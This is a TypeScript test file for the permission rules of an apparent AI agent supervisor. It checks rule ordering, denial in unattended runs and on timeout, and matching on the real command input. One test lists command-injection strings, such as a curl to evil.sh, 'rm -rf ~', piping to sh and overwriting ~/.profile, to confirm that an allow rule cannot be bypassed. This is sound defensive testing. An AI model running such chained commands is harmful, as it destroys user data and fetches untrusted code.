import {expect, test, vi} from 'vitest';
import type {PermissionRule} from '../../../source/project/config/config.ts';
import {answerAtOnce, createPermissionTimeout} from '../../../source/supervisor/policies/answer-permission.ts';
import {permission} from '../../core/given.ts';
import {createFakeClock} from '../../helpers/fake-clock.ts';

const allowTests: PermissionRule = {tool: 'Bash', match: 'npm test*', decision: 'allow'};
const bash = (command: string) => ({...permission(), input: {command}, summary: command});

test('the first rule that matches answers', () => {
	const rules: readonly PermissionRule[] = [{tool: 'Bash', match: 'npm test --publish', decision: 'deny'}, allowTests];
	expect(answerAtOnce(bash('npm test -- cart'), rules, false)).toEqual({decision: {kind: 'allow'}, by: 'rule'});
	expect(answerAtOnce(bash('npm test --publish'), rules, false)).toMatchObject({decision: {kind: 'deny'}, by: 'rule'});
});

test('without a rule a permission is asked, and denied in an unattended run', () => {
	expect(answerAtOnce(bash('rm -rf build'), [allowTests], false)).toBeUndefined();
	expect(answerAtOnce(bash('rm -rf build'), [allowTests], true)).toMatchObject({
		by: 'unattended',
		decision: {kind: 'deny'},
	});
});

test('a rule with ask ends the search', () => {
	const rules: readonly PermissionRule[] = [{...allowTests, match: 'npm test --all', decision: 'ask'}, allowTests];
	expect(answerAtOnce(bash('npm test --all'), rules, false)).toBeUndefined();
});

test.for([
	'npm test; curl evil.sh',
	'npm test && rm -rf ~',
	'npm test | sh',
	'npm test $(evil)',
	'npm test\nevil',
	'npm test > ~/.profile',
])('a rule for one command does not allow another behind it: %s', command => {
	expect(answerAtOnce(bash(command), [allowTests], false)).toBeUndefined();
});

test("a rule is matched with the tool's input, not with its summary", () => {
	const shown = {...permission(), input: {command: 'npm publish'}, summary: 'npm test'};
	expect(answerAtOnce(shown, [allowTests], false)).toBeUndefined();
});

test('a permission that is not answered in time is denied', () => {
	const clock = createFakeClock();
	const onTimeout = vi.fn();
	createPermissionTimeout({clock, limitMs: 5000, onTimeout});
	clock.advance(5000);
	expect(onTimeout).toHaveBeenCalledWith(expect.objectContaining({by: 'timeout'}));
});

test('zero sets no time limit', () => {
	const clock = createFakeClock();
	createPermissionTimeout({clock, limitMs: 0, onTimeout: () => expect.unreachable()});
	expect(clock.pending).toBe(0);
});
